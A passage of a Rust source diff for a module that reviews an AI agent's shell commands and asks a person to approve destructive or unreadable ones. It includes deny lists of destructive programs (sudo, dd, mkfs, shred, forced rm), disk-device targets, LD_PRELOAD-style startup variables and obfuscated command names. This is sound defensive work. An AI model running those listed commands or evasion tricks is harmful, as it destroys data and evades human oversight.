@@ -1,0 +1,1807 @@
+//! Which shell commands a person must see before `run_shell` runs them.
+//!
+//! The sandbox is what bounds a shell command; this review decides when a person looks first.
+//! It reads the command the way a POSIX shell would split it — quotes, escapes, `$'…'`,
+//! command and process substitutions, here-documents, pipelines, lists, subshells, wrappers
+//! such as `env`, `timeout` or `xargs`, and the code given to `sh -c` or `eval` — and asks for
+//! a person when any command in it is destructive (`rm -r`, `chmod`, `sudo`, `dd`, `mkfs`, a
+//! forced push, …) or when it cannot tell what will run: a program name computed at run time
+//! (`$x`, `$(…)`, a glob), a script fed to a shell on its input, inline code for another
+//! interpreter that reaches the system, a script the same command wrote, a function that calls
+//! itself. Anything it cannot read it escalates; an ordinary build, test or search runs.
+
+use serde::{Deserialize, Serialize};
+
+use crate::commands::git_config_programs;
+
+/// A project's `run_shell` settings (`[projects.NAME.shell]`); without them its agents have no
+/// shell.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ShellSettings {
+    /// The sandbox shares the machine's network. Off (the default), it has only a loopback of
+    /// its own. The egress gate does not see a shell's own connections: allow this only
+    /// for projects whose agents may reach anything this machine can.
+    #[serde(default)]
+    pub network: bool,
+    /// The `rw` roots (without write globs) are writable inside the sandbox. Off (the
+    /// default), every root is read-only there. Writes made by a shell are not journalled:
+    /// `revert_file` cannot undo them.
+    #[serde(default)]
+    pub write: bool,
+    /// More folders (absolute) the shell may read, such as a toolchain under a home folder
+    /// (`/home/me/.cargo`); credential files in them (to four levels down) are hidden.
+    #[serde(default)]
+    pub read_only: Vec<String>,
+}
+
+impl ShellSettings {
+    /// What is wrong with these settings, as the operator would fix them.
+    pub fn problems(&self) -> Vec<String> {
+        let mut problems = Vec::new();
+        for p in &self.read_only {
+            let path = std::path::Path::new(p);
+            if !path.is_absolute() {
+                problems.push(format!("read_only {p:?} must be an absolute path"));
+            } else if path
+                .components()
+                .any(|c| matches!(c, std::path::Component::ParentDir))
+            {
+                problems.push(format!("read_only {p:?} must not contain .."));
+            } else if path.parent().is_none() {
+                problems.push("read_only cannot be / (the whole machine)".to_string());
+            }
+        }
+        problems
+    }
+}
+
+/// Why a command needs a person: the pattern's name and what was seen.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Escalation {
+    pub pattern: &'static str,
+    pub detail: String,
+}
+
+impl std::fmt::Display for Escalation {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{} ({})", self.detail, self.pattern)
+    }
+}
+
+/// How deep substitutions and `sh -c` strings may nest before the review gives up (and asks).
+const MAX_DEPTH: usize = 8;
+
+/// Reviews a shell command; `Some` when a person must approve it first.
+pub fn review(command: &str) -> Option<Escalation> {
+    review_at(command, 0)
+}
+
+fn review_at(command: &str, depth: usize) -> Option<Escalation> {
+    if depth > MAX_DEPTH {
+        return Some(esc(
+            "unreadable",
+            "commands nested too deep to read".to_string(),
+        ));
+    }
+    if let Some(e) = self_calling_function(command) {
+        return Some(e);
+    }
+    let mut parser = Parser {
+        src: command.chars().collect(),
+        at: 0,
+        depth,
+        commands: Vec::new(),
+        found: None,
+    };
+    if let Err(e) = parser.list(None) {
+        return Some(e);
+    }
+    if let Some(e) = parser.found.take() {
+        return Some(e);
+    }
+    let mut written: Vec<String> = Vec::new();
+    for cmd in &parser.commands {
+        for target in &cmd.redirects {
+            if let Some(e) = sensitive_target(&target.text) {
+                return Some(e);
+            }
+            written.push(target.text.clone());
+        }
+        if let Some(e) = judge(cmd, 0, &written, depth, false, false) {
+            return Some(e);
+        }
+        // `tee FILE` writes FILE too.
+        if let Some(first) = cmd.words.first()
+            && basename(&first.text) == "tee"
+        {
+            written.extend(cmd.words[1..].iter().map(|w| w.text.clone()));
+        }
+    }
+    None
+}
+
+fn esc(pattern: &'static str, detail: String) -> Escalation {
+    Escalation { pattern, detail }
+}
+
+/// One word after quote removal: its text, and whether the shell computes part of it when it
+/// runs (an expansion) or may expand it to other words (a glob or a brace list).
+#[derive(Clone, Debug, Default)]
+struct Word {
+    text: String,
+    dynamic: bool,
+    glob: bool,
+}
+
+/// A simple command: its words (assignments first), where it writes, and whether its input
+/// comes from a pipe, a here-document or a here-string.
+#[derive(Debug, Default)]
+struct Simple {
+    words: Vec<Word>,
+    redirects: Vec<Word>,
+    fed: bool,
+}
+
+struct Parser {
+    src: Vec<char>,
+    at: usize,
+    depth: usize,
+    commands: Vec<Simple>,
+    /// A finding made while reading (say, in a here-document's expansions).
+    found: Option<Escalation>,
+}
+
+impl Parser {
+    fn peek(&self) -> Option<char> {
+        self.src.get(self.at).copied()
+    }
+
+    fn peek_at(&self, n: usize) -> Option<char> {
+        self.src.get(self.at + n).copied()
+    }
+
+    fn unreadable(&self, what: &str) -> Escalation {
+        esc("unreadable", format!("cannot read the command: {what}"))
+    }
+
+    /// A list of commands up to `close` (`)` for a subshell or a substitution) or the end.
+    fn list(&mut self, close: Option<char>) -> Result<(), Escalation> {
+        let mut cmd = Simple::default();
+        let mut fed_next = false;
+        let mut heredocs: Vec<(String, bool, bool)> = Vec::new();
+        // After `;;` (or `case … in`) a word list ending in `)` is a case pattern, not a command.
+        let mut pattern_next = false;
+        loop {
+            let Some(c) = self.peek() else {
+                if close.is_some() {
+                    return Err(self.unreadable("an unclosed parenthesis"));
+                }
+                break;
+            };
+            match c {
+                ' ' | '\t' => self.at += 1,
+                '#' if cmd.words.is_empty()
+                    || self.at == 0
+                    || self.src[self.at - 1].is_whitespace() =>
+                {
+                    while let Some(c) = self.peek() {
+                        if c == '\n' {
+                            break;
+                        }
+                        self.at += 1;
+                    }
+                }
+                '\n' => {
+                    self.at += 1;
+                    self.end(&mut cmd, &mut fed_next, false);
+                    for (delim, strip, expand) in std::mem::take(&mut heredocs) {
+                        self.heredoc_body(&delim, strip, expand)?;
+                    }
+                }
+                ';' | '&' | '|' => {
+                    self.at += 1;
+                    pattern_next = c == ';' && matches!(self.peek(), Some(';' | '&'));
+                    let pipe = c == '|' && self.peek() != Some('|');
+                    // `&&`, `||`, `;;`, `|&`, `;&`
+                    if matches!(self.peek(), Some('&' | '|' | ';')) {
+                        self.at += 1;
+                    }
+                    self.end(&mut cmd, &mut fed_next, pipe);
+                }
+                '(' => {
+                    self.at += 1;
+                    self.end(&mut cmd, &mut fed_next, false);
+                    self.list(Some(')'))?;
+                }
+                ')' => {
+                    self.at += 1;
+                    let case_pattern = pattern_next
+                        || cmd
+                            .words
+                            .first()
+                            .is_some_and(|w| w.text == "case" && !w.dynamic);
+                    if case_pattern {
+                        // `case WORD in PATTERN)` or `;; PATTERN)`: nothing here runs.
+                        cmd.words.clear();
+                        pattern_next = false;
+                        continue;
+                    }
+                    self.end(&mut cmd, &mut fed_next, false);
+                    if close == Some(')') {
+                        return Ok(());
+                    }
+                    return Err(self.unreadable("a closing parenthesis with no opening one"));
+                }
+                '<' | '>' => self.redirect(&mut cmd, &mut heredocs)?,
+                _ => {
+                    let word = self.word()?;
+                    // A lone digit before a redirection is its file descriptor.
+                    if matches!(self.peek(), Some('<' | '>'))
+                        && !word.dynamic
+                        && !word.text.is_empty()
+                        && word.text.chars().all(|c| c.is_ascii_digit())
+                    {
+                        continue;
+                    }
+                    match word.text.as_str() {
+                        "{" | "}" | "!" if !word.dynamic => {
+                            self.end(&mut cmd, &mut fed_next, false)
+                        }
+                        _ => cmd.words.push(word),
+                    }
+                }
+            }
+        }
+        self.end(&mut cmd, &mut fed_next, false);
+        if let Some((delim, ..)) = heredocs.first() {
+            return Err(self.unreadable(&format!("a here-document ({delim}) with no body")));
+        }
+        Ok(())
+    }
+
+    /// Ends the simple command being read; `pipe` feeds the next one.
+    fn end(&mut self, cmd: &mut Simple, fed_next: &mut bool, pipe: bool) {
+        let mut done = std::mem::take(cmd);
+        done.fed |= *fed_next;
+        *fed_next = pipe;
+        if !done.words.is_empty() || !done.redirects.is_empty() {
+            self.commands.push(done);
+        }
+    }
+
+    fn redirect(
+        &mut self,
+        cmd: &mut Simple,
+        heredocs: &mut Vec<(String, bool, bool)>,
+    ) -> Result<(), Escalation> {
+        let c = self.peek().expect("called on < or >");
+        // Process substitution: `<(…)` and `>(…)` run a list.
+        if self.peek_at(1) == Some('(') {
+            self.at += 2;
+            self.list(Some(')'))?;
+            cmd.words.push(Word {
+                text: String::new(),
+                dynamic: true,
+                glob: false,
+            });
+            return Ok(());
+        }
+        self.at += 1;
+        if c == '<' && self.peek() == Some('<') {
+            self.at += 1;
+            if self.peek() == Some('<') {
+                // Here-string: the word is the command's input.
+                self.at += 1;
+                self.blanks();
+                self.word()?;
+                cmd.fed = true;
+                return Ok(());
+            }
+            let strip = self.peek() == Some('-');
+            if strip {
+                self.at += 1;
+            }
+            self.blanks();
+            let start = self.at;
+            let delim = self.word()?;
+            let quoted = self.src[start..self.at]
+                .iter()
+                .any(|c| matches!(c, '\'' | '"' | '\\'));
+            heredocs.push((delim.text, strip, !quoted));
+            cmd.fed = true;
+            return Ok(());
+        }
+        // `>>`, `>|`, `<>` (read and write), `>&`, `<&`
+        let mut writes = c == '>';
+        if c == '<' && self.peek() == Some('>') {
+            self.at += 1;
+            writes = true;
+        } else if c == '>' && matches!(self.peek(), Some('>' | '|')) {
+            self.at += 1;
+        }
+        let dup = self.peek() == Some('&');
+        if dup {
+            self.at += 1;
+        }
+        self.blanks();
+        let target = self.word()?;
+        let is_fd = dup && (target.text == "-" || target.text.chars().all(|c| c.is_ascii_digit()));
+        if writes && !is_fd {
+            cmd.redirects.push(target);
+        }
+        Ok(())
+    }
+
+    fn blanks(&mut self) {
+        while matches!(self.peek(), Some(' ' | '\t')) {
+            self.at += 1;
+        }
+    }
+
+    /// Skips a here-document's lines up to its delimiter; with an unquoted delimiter its
+    /// expansions run, so they are read like a double-quoted string.
+    fn heredoc_body(&mut self, delim: &str, strip: bool, expand: bool) -> Result<(), Escalation> {
+        loop {
+            if self.at >= self.src.len() {
+                return Err(self.unreadable(&format!("here-document {delim:?} is not closed")));
+            }
+            let start = self.at;
+            while let Some(c) = self.peek() {
+                self.at += 1;
+                if c == '\n' {
+                    break;
+                }
+            }
+            let line: String = self.src[start..self.at].iter().collect();
+            let line = line.trim_end_matches('\n');
+            let line = if strip {
+                line.trim_start_matches('\t')
+            } else {
+                line
+            };
+            if line == delim {
+                return Ok(());
+            }
+            if expand && (line.contains("$(") || line.contains('`') || line.contains("${")) {
+                let mut word = Word::default();
+                let mut inner = Parser {
+                    src: line.chars().collect(),
+                    at: 0,
+                    depth: self.depth,
+                    commands: Vec::new(),
+                    found: None,
+                };
+                while inner.at < inner.src.len() {
+                    let c = inner.src[inner.at];
+                    inner.at += 1;
+                    match c {
+                        '\\' => inner.at += 1,
+                        '$' => inner.dollar(&mut word)?,
+                        '`' => inner.backquote(&mut word)?,
+                        _ => {}
+                    }
+                }
+                self.commands.append(&mut inner.commands);
+            }
+        }
+    }
+
+    /// One word, quotes removed, expansions noted (and their commands read).
+    fn word(&mut self) -> Result<Word, Escalation> {
+        let mut w = Word::default();
+        let mut brace = false;
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')' => {
+                    // `name=(…)` array assignments, `@(…)` extglobs: read the list.
+                    if c == '('
+                        && (w.text.ends_with('=') || w.text.ends_with(['@', '!', '+', '*', '?']))
+                    {
+                        self.at += 1;
+                        self.list(Some(')'))?;
+                        w.dynamic = true;
+                        continue;
+                    }
+                    break;
+                }
+                '\'' => {
+                    self.at += 1;
+                    loop {
+                        match self.peek() {
+                            None => return Err(self.unreadable("an unclosed single quote")),
+                            Some('\'') => {
+                                self.at += 1;
+                                break;
+                            }
+                            Some(c) => {
+                                w.text.push(c);
+                                self.at += 1;
+                            }
+                        }
+                    }
+                }
+                '"' => {
+                    self.at += 1;
+                    self.double_quoted(&mut w)?;
+                }
+                '\\' => {
+                    self.at += 1;
+                    match self.peek() {
+                        Some('\n') => self.at += 1,
+                        Some(c) => {
+                            w.text.push(c);
+                            self.at += 1;
+                        }
+                        None => {}
+                    }
+                }
+                '`' => {
+                    self.at += 1;
+                    self.backquote(&mut w)?;
+                }
+                '$' => {
+                    self.at += 1;
+                    match self.peek() {
+                        Some('\'') => {
+                            self.at += 1;
+                            self.ansi_c(&mut w)?;
+                        }
+                        Some('"') => {
+                            self.at += 1;
+                            self.double_quoted(&mut w)?;
+                        }
+                        _ => self.dollar(&mut w)?,
+                    }
+                }
+                '*' | '?' | '[' => {
+                    w.glob = true;
+                    w.text.push(c);
+                    self.at += 1;
+                }
+                '{' => {
+                    brace = true;
+                    w.text.push(c);
+                    self.at += 1;
+                }
+                ',' if brace => {
+                    w.glob = true;
+                    w.text.push(c);
+                    self.at += 1;
+                }
+                '.' if brace && self.peek_at(1) == Some('.') => {
+                    w.glob = true;
+                    w.text.push(c);
+                    self.at += 1;
+                }
+                _ => {
+                    w.text.push(c);
+                    self.at += 1;
+                }
+            }
+        }
+        Ok(w)
+    }
+
+    fn double_quoted(&mut self, w: &mut Word) -> Result<(), Escalation> {
+        loop {
+            match self.peek() {
+                None => return Err(self.unreadable("an unclosed double quote")),
+                Some('"') => {
+                    self.at += 1;
+                    return Ok(());
+                }
+                Some('\\') => {
+                    self.at += 1;
+                    match self.peek() {
+                        Some(c @ ('$' | '`' | '"' | '\\')) => {
+                            w.text.push(c);
+                            self.at += 1;
+                        }
+                        Some('\n') => self.at += 1,
+                        _ => w.text.push('\\'),
+                    }
+                }
+                Some('$') => {
+                    self.at += 1;
+                    self.dollar(w)?;
+                }
+                Some('`') => {
+                    self.at += 1;
+                    self.backquote(w)?;
+                }
+                Some(c) => {
+                    w.text.push(c);
+                    self.at += 1;
+                }
+            }
+        }
+    }
+
+    /// After a `$`: a substitution, arithmetic, a parameter, or a plain dollar sign.
+    fn dollar(&mut self, w: &mut Word) -> Result<(), Escalation> {
+        match self.peek() {
+            Some('(') => {
+                // `$(…)` runs a list; `$((…))` is arithmetic, whose own `$(…)` run too: both
+                // are read as a list (arithmetic reads as harmless words).
+                self.at += 1;
+                self.list(Some(')'))?;
+                w.dynamic = true;
+            }
+            Some('{') => {
+                self.at += 1;
+                let start = self.at;
+                let mut depth = 1;
+                while let Some(c) = self.peek() {
+                    self.at += 1;
+                    match c {
+                        '{' => depth += 1,
+                        '}' => {
+                            depth -= 1;
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                        '\\' => self.at += 1,
+                        _ => {}
+                    }
+                }
+                if depth != 0 {
+                    return Err(self.unreadable("an unclosed ${"));
+                }
+                let inner: String = self.src[start..self.at - 1].iter().collect();
+                if inner.contains("$(") || inner.contains('`') {
+                    self.nested(&inner);
+                }
+                w.dynamic = true;
+            }
+            Some(c) if c.is_ascii_alphanumeric() || "_@*#?$!-".contains(c) => {
+                if c.is_ascii_alphabetic() || c == '_' {
+                    while matches!(self.peek(), Some(c) if c.is_ascii_alphanumeric() || c == '_') {
+                        self.at += 1;
+                    }
+                } else {
+                    self.at += 1;
+                }
+                w.dynamic = true;
+            }
+            _ => w.text.push('$'),
+        }
+        Ok(())
+    }
+
+    fn backquote(&mut self, w: &mut Word) -> Result<(), Escalation> {
+        let mut inner = String::new();
+        loop {
+            match self.peek() {
+                None => return Err(self.unreadable("an unclosed backquote")),
+                Some('`') => {
+                    self.at += 1;
+                    break;
+                }
+                Some('\\') => {
+                    self.at += 1;
+                    if let Some(c) = self.peek() {
+                        if !matches!(c, '`' | '\\' | '$') {
+                            inner.push('\\');
+                        }
+                        inner.push(c);
+                        self.at += 1;
+                    }
+                }
+                Some(c) => {
+                    inner.push(c);
+                    self.at += 1;
+                }
+            }
+        }
+        self.nested(&inner);
+        w.dynamic = true;
+        Ok(())
+    }
+
+    /// Reviews text that runs as commands of its own (a backquoted or `${…}` substitution).
+    fn nested(&mut self, text: &str) {
+        if self.found.is_none() {
+            self.found = review_at(text, self.depth + 1);
+        }
+    }
+
+    /// `$'…'`: ANSI-C escapes decoded, so that `$'\x72m'` reads as `rm`.
+    fn ansi_c(&mut self, w: &mut Word) -> Result<(), Escalation> {
+        loop {
+            let Some(c) = self.peek() else {
+                return Err(self.unreadable("an unclosed $'"));
+            };
+            self.at += 1;
+            match c {
+                '\'' => return Ok(()),
+                '\\' => {
+                    let Some(e) = self.peek() else { continue };
+                    self.at += 1;
+                    let (radix, max) = match e {
+                        'x' => (16, 2),
+                        'u' => (16, 4),
+                        'U' => (16, 8),
+                        '0'..='7' => {
+                            self.at -= 1;
+                            (8, 3)
+                        }
+                        _ => {
+                            w.text.push(match e {
+                                'n' => '\n',
+                                't' => '\t',
+                                'r' => '\r',
+                                'a' => '\x07',
+                                'b' => '\x08',
+                                'e' | 'E' => '\x1b',
+                                'f' => '\x0c',
+                                'v' => '\x0b',
+                                other => other,
+                            });
+                            continue;
+                        }
+                    };
+                    let mut digits = String::new();
+                    while digits.len() < max
+                        && let Some(d) = self.peek()
+                        && d.is_digit(radix)
+                    {
+                        digits.push(d);
+                        self.at += 1;
+                    }
+                    match u32::from_str_radix(&digits, radix)
+                        .ok()
+                        .and_then(char::from_u32)
+                    {
+                        Some(ch) => w.text.push(ch),
+                        None => w.dynamic = true,
+                    }
+                }
+                c => w.text.push(c),
+            }
+        }
+    }
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// Shell keywords and assignments before a command's name.
+fn is_prefix_word(w: &Word) -> bool {
+    matches!(
+        w.text.as_str(),
+        "if" | "then"
+            | "else"
+            | "elif"
+            | "fi"
+            | "do"
+            | "done"
+            | "while"
+            | "until"
+            | "for"
+            | "in"
+            | "case"
+            | "esac"
+            | "select"
+            | "function"
+            | "coproc"
+            | "[["
+            | "]]"
+    ) || is_assignment(&w.text)
+}
+
+fn is_assignment(text: &str) -> bool {
+    match text.split_once('=') {
+        Some((name, _)) => {
+            let name = name.trim_end_matches('+');
+            !name.is_empty()
+                && name
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '[' || c == ']')
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+        }
+        None => false,
+    }
+}
+
+const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "rbash", "yash",
+    "posh", "oksh", "loksh",
+];
+
+/// Programs that run another program named in their arguments.
+const WRAPPERS: &[&str] = &[
+    "env",
+    "nice",
+    "nohup",
+    "timeout",
+    "time",
+    "command",
+    "builtin",
+    "exec",
+    "stdbuf",
+    "ionice",
+    "chrt",
+    "taskset",
+    "setsid",
+    "flock",
+    "unbuffer",
+    "busybox",
+    "toybox",
+    "strace",
+    "ltrace",
+    "nsenter",
+    "unshare",
+    "chroot",
+    "fakeroot",
+    "proot",
+    "firejail",
+    "bwrap",
+    "watch",
+    "script",
+    "systemd-run",
+    "catchsegv",
+    "valgrind",
+    "gdb",
+    "xargs",
+    "parallel",
+    "sem",
+    "entr",
+    "inotifywait",
+    "setpriv",
+    "runuser",
+    "chpst",
+    "prlimit",
+    "faketime",
+    "eatmydata",
+    "torsocks",
+    "proxychains",
+    "proxychains4",
+    "ssh-agent",
+    "dbus-run-session",
+    "xvfb-run",
+    "uv",
+    "npx",
+    "pnpx",
+    "bunx",
+    "poetry",
+    "pipenv",
+];
+
+/// Programs a person must approve, whatever their arguments.
+const ALWAYS: &[(&str, &str)] = &[
+    ("sudo", "runs as another user"),
+    ("su", "runs as another user"),
+    ("doas", "runs as another user"),
+    ("pkexec", "runs as another user"),
+    ("run0", "runs as another user"),
+    ("chmod", "changes permissions"),
+    ("chown", "changes ownership"),
+    ("chgrp", "changes ownership"),
+    ("chattr", "changes file attributes"),
+    ("setfacl", "changes access lists"),
+    ("dd", "copies raw blocks"),
+    ("mke2fs", "makes a filesystem"),
+    ("mkswap", "makes swap"),
+    ("fdisk", "edits partitions"),
+    ("sfdisk", "edits partitions"),
+    ("gdisk", "edits partitions"),
+    ("parted", "edits partitions"),
+    ("wipefs", "wipes signatures"),
+    ("shred", "destroys files"),
+    ("srm", "destroys files"),
+    ("wipe", "destroys files"),
+    ("truncate", "truncates files"),
+    ("unlink", "removes files"),
+    ("mount", "mounts filesystems"),
+    ("umount", "unmounts filesystems"),
+    ("losetup", "attaches devices"),
+    ("kill", "signals processes"),
+    ("killall", "signals processes"),
+    ("pkill", "signals processes"),
+    ("shutdown", "stops the machine"),
+    ("reboot", "stops the machine"),
+    ("halt", "stops the machine"),
+    ("poweroff", "stops the machine"),
+    ("systemctl", "controls services"),
+    ("service", "controls services"),
+    ("crontab", "changes scheduled jobs"),
+    ("iptables", "changes the firewall"),
+    ("nft", "changes the firewall"),
+    ("useradd", "changes accounts"),
+    ("userdel", "changes accounts"),
+    ("usermod", "changes accounts"),
+    ("passwd", "changes accounts"),
+    ("visudo", "changes sudo rules"),
+    ("insmod", "loads kernel modules"),
+    ("rmmod", "unloads kernel modules"),
+    ("modprobe", "loads kernel modules"),
+    (
+        "alias",
+        "defines an alias (a name that runs something else)",
+    ),
+    ("enable", "loads or switches shell builtins"),
+];
+
+/// Judges the simple command `cmd`, from word `from` on. `fed_args`: its arguments come from
+/// elsewhere at run time (after `xargs`). `wrapped`: this is one of the positions a wrapper's
+/// loop tries, and that loop also tries every position after a wrapper found here.
+fn judge(
+    cmd: &Simple,
+    from: usize,
+    written: &[String],
+    depth: usize,
+    fed_args: bool,
+    wrapped: bool,
+) -> Option<Escalation> {
+    let words = &cmd.words[from.min(cmd.words.len())..];
+    // Keywords and assignments come first; some assignments change what runs.
+    let mut start = 0;
+    while start < words.len() && is_prefix_word(&words[start]) {
+        let w = &words[start];
+        if let Some((name, _)) = w.text.split_once('=')
+            && matches!(
+                name,
+                "BASH_ENV"
+                    | "ENV"
+                    | "LD_PRELOAD"
+                    | "LD_LIBRARY_PATH"
+                    | "LD_AUDIT"
+                    | "PROMPT_COMMAND"
+                    | "BASH_FUNC_"
+                    | "SHELLOPTS"
+                    | "PS4"
+                    | "GIT_SSH_COMMAND"
+                    | "GIT_EXTERNAL_DIFF"
+                    | "GIT_PAGER"
+                    | "PAGER"
+                    | "EDITOR"
+                    | "VISUAL"
+            )
+        {
+            return Some(esc(
+                "startup-code",
+                format!("sets {name}, which makes a program run other code"),
+            ));
+        }
+        start += 1;
+    }
+    let words = &words[start..];
+    let first = words.first()?;
+    if first.dynamic || first.glob {
+        return Some(esc(
+            "computed-command",
+            format!(
+                "the program's name ({}) is computed when the command runs",
+                shown(first)
+            ),
+        ));
+    }
+    let name = basename(&first.text);
+    let args = &words[1..];
+    let dynamic_args = fed_args || args.iter().any(|w| w.dynamic || w.glob);
+    if let Some((_, what)) = ALWAYS.iter().find(|(n, _)| *n == name) {
+        return Some(esc(name_pattern(name), format!("`{name}` {what}")));
+    }
+    if name.starts_with("mkfs") {
+        return Some(esc("mkfs", format!("`{name}` makes a filesystem")));
+    }
+    // A disk device named anywhere.
+    for w in args {
+        if let Some(e) = sensitive_target(&w.text).filter(|e| e.pattern == "disk-device") {
+            return Some(e);
+        }
+    }
+    match name {
+        "eval" | "trap" => {
+            if args.iter().any(|w| w.dynamic) {
+                return Some(esc(
+                    "computed-command",
+                    format!("`{name}` runs text computed when the command runs"),
+                ));
+            }
+            let text: Vec<&str> = args.iter().map(|w| w.text.as_str()).collect();
+            // `trap CODE SIGNAL…`: the code is the first argument.
+            let code = if name == "trap" {
+                text.first().copied().unwrap_or("").to_string()
+            } else {
+                text.join(" ")
+            };
+            return review_at(&code, depth + 1);
+        }
+        "hash" if args.iter().any(|w| w.text.starts_with("-p")) => {
+            return Some(esc(
+                "alias",
+                "`hash -p` makes a name run another program".into(),
+            ));
+        }
+        "declare" | "typeset" | "export" | "local" | "readonly" => {
+            for w in args {
+                if let Some((name, _)) = w.text.split_once('=')
+                    && matches!(
+                        name,
+                        "BASH_ENV" | "ENV" | "LD_PRELOAD" | "PROMPT_COMMAND" | "PS4"
+                    )
+                {
+                    return Some(esc(
+                        "startup-code",
+                        format!("sets {name}, which makes a program run other code"),
+                    ));
+                }
+            }
+            return None;
+        }
+        "rm" => {
+            for w in args {
+                let t = &w.text;
+                let forced = t == "--recursive"
+                    || t == "--force"
+                    || t.starts_with("--no-preserve")
+                    || (t.starts_with('-')
+                        && !t.starts_with("--")
+                        && t.chars().skip(1).any(|c| matches!(c, 'r' | 'R' | 'f')));
+                if forced {
+                    return Some(esc(
+                        "rm-rf",
+                        format!("`rm {t}` removes recursively or by force"),
+                    ));
+                }
+                if matches!(
+                    t.as_str(),
+                    "/" | "~" | "." | ".." | "*" | "/*" | "~/" | "{}"
+                ) {
+                    return Some(esc("rm-rf", format!("`rm` of {t}")));
+                }
+            }
+            if dynamic_args {
+                return Some(esc(
+                    "rm-rf",
+                    "`rm` of files named when the command runs (a variable, a glob, xargs)".into(),
+                ));
+            }
+        }
+        "find" => {
+            if let Some(w) = args.iter().find(|w| {
+                matches!(
+                    w.text.as_str(),
+                    "-delete"
+                        | "-exec"
+                        | "-execdir"
+                        | "-ok"
+                        | "-okdir"
+                        | "-fprint"
+                        | "-fprint0"
+                        | "-fprintf"
+                        | "-fls"
+                )
+            }) {
+                return Some(esc(
+                    "find-delete",
+                    format!("`find {}` deletes or runs programs", w.text),
+                ));
+            }
+            return None;
+        }
+        "git" => return judge_git(args),
+        "docker" | "podman" | "nerdctl" => {
+            let sub: Vec<&str> = args
+                .iter()
+                .filter(|w| !w.text.starts_with('-'))
+                .map(|w| w.text.as_str())
+                .take(2)
+                .collect();
+            let destroys = |s: &str| {
+                matches!(
+                    s,
+                    "rm" | "rmi" | "stop" | "kill" | "restart" | "prune" | "down" | "remove"
+                )
+            };
+            if sub.iter().any(|s| destroys(s)) {
+                return Some(esc(
+                    "container",
+                    format!(
+                        "`{name} {}` stops or removes containers or images",
+                        sub.join(" ")
+                    ),
+                ));
+            }
+            return None;
+        }
+        "kubectl" | "oc" => {
+            if let Some(s) = args.iter().find(|w| {
+                matches!(
+                    w.text.as_str(),
+                    "delete"
+                        | "drain"
+                        | "replace"
+                        | "scale"
+                        | "rollout"
+                        | "cordon"
+                        | "uncordon"
+                        | "taint"
+                        | "evict"
+                )
+            }) {
+                return Some(esc(
+                    "cluster",
+                    format!("`{name} {}` changes a cluster", s.text),
+                ));
+            }
+            return None;
+        }
+        "dotnet" | "terraform" | "tofu" | "helm" | "npm" | "yarn" | "pnpm" | "cargo" | "twine" => {
+            let verbs: &[&str] = match name {
+                "dotnet" => &["publish"],
+                "terraform" | "tofu" => &["apply", "destroy", "import", "taint"],
+                "helm" => &["uninstall", "delete", "rollback"],
+                "cargo" => &["publish", "yank", "owner"],
+                "twine" => &["upload"],
+                _ => &["publish", "unpublish", "deprecate"],
+            };
+            if let Some(s) = args.iter().find(|w| verbs.contains(&w.text.as_str())) {
+                return Some(esc(
+                    "publish",
+                    format!("`{name} {}` changes something outside the project", s.text),
+                ));
+            }
+            return None;
+        }
+        "sed" | "perl" | "cp" | "mv" | "install" | "ln" | "tee" => {
+            for w in args {
+                if let Some(e) = sensitive_target(&w.text) {
+                    return Some(e);
+                }
+            }
+            if name == "perl" {
+                return judge_interpreter(name, args, cmd.fed);
+            }
+            return None;
+        }
+        _ => {}
+    }
+    if SHELLS.contains(&name) {
+        return judge_shell(name, args, cmd.fed, written, depth);
+    }
+    if let Some(e) = judge_interpreter(name, args, cmd.fed) {
+        return Some(e);
+    }
+    if matches!(name, "source" | ".") {
+        return judge_script(name, args.first(), written);
+    }
+    if WRAPPERS.contains(&name) {
+        if wrapped {
+            return None;
+        }
+        let mut fed = fed_args || matches!(name, "xargs" | "parallel");
+        // Which word is the wrapped program depends on each wrapper's options: every later
+        // position is tried (a wrapper met there is covered by the later positions), and any
+        // text with spaces (`env -S '…'`, `watch '…'`) is read as a command of its own.
+        for (i, w) in words.iter().enumerate().skip(1) {
+            if let Some(e) = judge(cmd, from + start + i, written, depth, fed, true) {
+                return Some(e);
+            }
+            fed |= matches!(basename(&w.text), "xargs" | "parallel");
+        }
+        for w in args {
+            if w.text.contains(char::is_whitespace)
+                && let Some(e) = review_at(&w.text, depth + 1)
+            {
+                return Some(e);
+            }
+        }
+        return None;
+    }
+    // A script this same command wrote, run by path.
+    if first.text.contains('/') && written.iter().any(|t| same_file(t, &first.text)) {
+        return Some(esc(
+            "written-script",
+            format!("runs {}, which this command wrote", first.text),
+        ));
+    }
+    None
+}
+
+fn name_pattern(name: &str) -> &'static str {
+    ALWAYS
+        .iter()
+        .find(|(n, _)| *n == name)
+        .map(|(n, _)| *n)
+        .unwrap_or("destructive")
+}
+
+fn shown(w: &Word) -> String {
+    if w.text.is_empty() {
+        "an expansion".into()
+    } else {
+        format!("{:?}", w.text)
+    }
+}
+
+fn same_file(a: &str, b: &str) -> bool {
+    let norm = |s: &str| s.trim_start_matches("./").to_string();
+    norm(a) == norm(b)
+}
+
+/// A write target a person must see: a disk device, or an application's settings file.
+fn sensitive_target(target: &str) -> Option<Escalation> {
+    let t = target.strip_prefix("of=").unwrap_or(target);
+    const DISKS: &[&str] = &[
+        "/dev/sd",
+        "/dev/hd",
+        "/dev/vd",
+        "/dev/xvd",
+        "/dev/nvme",
+        "/dev/mmcblk",
+        "/dev/dm-",
+        "/dev/md",
+        "/dev/loop",
+        "/dev/disk/",
+        "/dev/mapper/",
+        "/dev/mem",
+        "/dev/kmem",
+        "/dev/port",
+    ];
+    if DISKS.iter().any(|d| t.starts_with(d)) {
+        return Some(esc("disk-device", format!("writes the device {t}")));
+    }
+    if basename(t).to_ascii_lowercase().starts_with("appsettings") {
+        return Some(esc("app-settings", format!("changes {t}")));
+    }
+    None
+}
+
+fn judge_shell(
+    name: &str,
